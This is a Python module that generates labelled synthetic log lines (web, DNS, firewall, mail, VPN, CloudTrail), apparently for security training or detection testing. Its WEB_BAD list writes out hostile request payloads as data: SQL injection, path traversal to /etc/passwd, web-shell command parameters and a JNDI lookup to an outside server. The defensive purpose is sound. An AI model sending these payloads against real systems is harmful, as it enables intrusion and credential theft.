"""Lines of services: combined access log, BIND, netfilter, Postfix, OpenVPN, AWS CloudTrail."""

from __future__ import annotations

import json
from datetime import datetime
from random import Random

from vedette.forge.scene import cast
from vedette.forge.scene.line import Line, Value

WEB_BAD = (
    ("/index.php?id=1%27%20UNION%20SELECT%20user,pass%20FROM%20users--", "T1190", "the query carries a UNION SELECT"),
    ("/../../../../etc/passwd", "T1190", "the path climbs out of the web folder to /etc/passwd"),
    ("/cgi-bin/.%2e/.%2e/.%2e/bin/sh", "T1190", "an encoded path climbs to a shell"),
    ("/uploads/{word}.php?cmd=whoami", "T1505.003", "a script in the folder for uploads takes a command"),
    ("/?x=${jndi:ldap://{domain}/a}", "T1190", "the query carries a JNDI lookup to an outside server"),
    ("/wp-admin/{word}.php?c=id", "T1505.003", "a script that WordPress does not have takes a command as a parameter"),
)  # fmt: skip
WEB_DAILY = (
    "/",
    "/index.html",
    "/img/{word}.png",
    "/api/v1/orders/{n}",
    "/login",
    "/search?q={word}",
    "/robots.txt",
    "/css/site.css",
    "/products/{word}",
)
AGENTS = (
    "Mozilla/5.0 (X11; Linux x86_64)",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64)",
    "curl/8.5.0",
    "python-requests/2.31",
)


def web(rng: Random, when: datetime, *, bad: bool | None = None, address: str = "") -> Line:
    bad = rng.random() < 0.5 if bad is None else bad
    address = address or cast.outside(rng)
    path, technique, reason = rng.choice(WEB_BAD) if bad else (rng.choice(WEB_DAILY), "", "")
    path = path.replace("{word}", rng.choice(cast.WORDS)).replace("{domain}", cast.domain(rng))
    path = path.replace("{n}", str(rng.randint(1, 9999)))
    method, status, size = (
        rng.choice(["GET", "GET", "POST"]),
        rng.choice([200, 200, 302, 403, 404]),
        rng.randint(120, 60000),
    )
    agent = rng.choice(AGENTS)
    stamp = when.strftime("%d/%b/%Y:%H:%M:%S +0000")
    text = f'{address} - - [{stamp}] "{method} {path} HTTP/1.1" {status} {size} "-" "{agent}"'
    fields: dict[str, Value] = {
        "source_ip": address,
        "time": stamp,
        "method": method,
        "path": path,
        "status": status,
        "bytes": size,
        "user_agent": agent,
    }
    says = f"{address} asked for `{path}` with {method}; the server answered {status}."
    if reason:
        why = f"It is an attack or a probe: {reason}. {_web_status(status)}"
    else:
        why = "Path and parameters are what visitors ask for every day."
    return Line("web", text, fields, says, technique, why, "web")


def _web_status(status: int) -> str:
    if status == 200:
        return "Status 200 means that the server answered normally, so it has to be looked at."
    return f"Status {status} alone does not show that it worked."


def dns(rng: Random, when: datetime, *, bad: bool | None = None, address: str = "") -> Line:
    bad = rng.random() < 0.5 if bad is None else bad
    address, port = address or cast.inside(rng), cast.port(rng)
    kind = rng.choice(["TXT", "NULL"]) if bad else rng.choice(["A", "AAAA", "MX"])
    name = (
        f"{cast.random_label(rng, rng.randint(38, 56))}.{cast.domain(rng)}"
        if bad
        else f"{rng.choice(['www', 'mail', 'cdn'])}.{cast.domain(rng)}"
    )
    stamp = when.strftime("%d-%b-%Y %H:%M:%S.000")
    text = f"{stamp} queries: info: client {address}#{port} ({name}): query: {name} IN {kind} +"
    fields: dict[str, Value] = {"time": stamp, "source_ip": address, "source_port": port, "name": name, "type": kind}
    why = (
        "The first label is long and looks random, and the type carries free text: so data is tunnelled in DNS."
        if bad
        else "Name and type are what a browser or mail server asks for."
    )
    return Line(
        "dns", text, fields, f"{address} asked for the {kind} record of {name}.", "T1071.004" if bad else "", why, "dns"
    )


def firewall(rng: Random, when: datetime, *, address: str = "", host: str = "", to: int = 0) -> Line:
    host, address, inner = host or "fw-01", address or cast.outside(rng), cast.inside(rng)
    action, dport, sport = (
        rng.choice(["BLOCK", "ALLOW"]),
        to or rng.choice([22, 23, 80, 443, 445, 3389, 8080]),
        cast.port(rng),
    )
    text = (
        f"{cast.syslog(when)} {host} kernel: [UFW {action}] IN=eth0 OUT= SRC={address} DST={inner} "
        f"PROTO=TCP SPT={sport} DPT={dport} SYN"
    )
    fields: dict[str, Value] = {
        "time": cast.syslog(when),
        "host": host,
        "action": action,
        "source_ip": address,
        "destination_ip": inner,
        "protocol": "TCP",
        "source_port": sport,
        "destination_port": dport,
    }
    told = "refused" if action == "BLOCK" else "let through"
    return Line(
        "firewall",
        text,
        fields,
        f"{host} {told} a TCP connection from {address} to port {dport} of {inner}.",
        why="One packet says little; one source that tries many ports or hosts is a scan.",
        family="firewall",
    )


def mail(rng: Random, when: datetime) -> Line:
    host, queue = f"mail-{rng.randint(1, 4):02}", cast.digest(rng, 10).upper()
    sender, to = f"{rng.choice(cast.WORDS)}@{cast.domain(rng)}", f"{cast.person(rng)}@corp.example"
    status, size = rng.choice(["sent", "deferred", "bounced"]), rng.randint(900, 90000)
    head = f"{cast.syslog(when)} {host} postfix/smtp[{rng.randint(500, 9000)}]: {queue}:"
    text = f"{head} from=<{sender}>, to=<{to}>, size={size}, status={status}"
    fields: dict[str, Value] = {
        "time": cast.syslog(when),
        "host": host,
        "queue_id": queue,
        "from": sender,
        "to": to,
        "size": size,
        "status": status,
    }
    told = {"sent": "was delivered", "deferred": "could not be delivered yet", "bounced": "was returned"}[status]
    return Line(
        "mail",
        text,
        fields,
        f"A message from {sender} to {to} {told}.",
        why="The line holds neither subject nor content, so it cannot show whether the message was harmful.",
        family="mail",
    )


def vpn(rng: Random, when: datetime, *, address: str = "", user: str = "") -> Line:
    address, user, ok = address or cast.outside(rng), user or cast.person(rng), rng.random() < 0.5
    port = cast.port(rng)
    told = "authentication succeeded" if ok else "authentication failed"
    text = f"{cast.iso(when)} vpn-01 openvpn: {address}:{port} TLS: Username/Password {told} for username '{user}'"
    fields: dict[str, Value] = {
        "time": cast.iso(when),
        "host": "vpn-01",
        "source_ip": address,
        "source_port": port,
        "user": user,
        "result": "succeeded" if ok else "failed",
    }
    return Line(
        "vpn",
        text,
        fields,
        f"At the VPN, {told} for {user} from {address}.",
        why="Whether it is harmful depends on where this user usually comes from.",
        family="vpn",
    )


CLOUD = {
    "StopLogging": ("cloudtrail.amazonaws.com", "T1562.008", "it switches the audit trail off"),
    "DeleteTrail": ("cloudtrail.amazonaws.com", "T1562.008", "it deletes the audit trail"),
    "CreateAccessKey": ("iam.amazonaws.com", "T1098.001", "it makes a second set of credentials for an account"),
    "CreateUser": ("iam.amazonaws.com", "T1136.003", "it makes a new account"),
    "DescribeInstances": ("ec2.amazonaws.com", "", ""),
    "GetCallerIdentity": ("sts.amazonaws.com", "", ""),
    "ListBuckets": ("s3.amazonaws.com", "", ""),
    "AssumeRole": ("sts.amazonaws.com", "", ""),
}


def cloud(rng: Random, when: datetime, *, bad: bool | None = None, user: str = "", address: str = "") -> Line:
    bad = rng.random() < 0.5 if bad is None else bad
    name = rng.choice([k for k, v in CLOUD.items() if bool(v[1]) == bad])
    service, technique, reason = CLOUD[name]
    user, address = user or cast.person(rng), address or cast.outside(rng)
    region = rng.choice(["eu-central-1", "us-east-1", "eu-west-1", "ap-south-1"])
    fields: dict[str, Value] = {
        "eventTime": cast.iso(when),
        "eventSource": service,
        "eventName": name,
        "awsRegion": region,
        "sourceIPAddress": address,
        "userName": user,
    }
    why = (
        f"It is suspicious unless it was ordered: {reason}."
        if reason
        else "Tools and people make such calls every day."
    )
    return Line(
        "cloud",
        json.dumps(fields),
        fields,
        f"{user} called {name} of {service} in {region} from {address}.",
        technique,
        why,
        "cloud",
    )
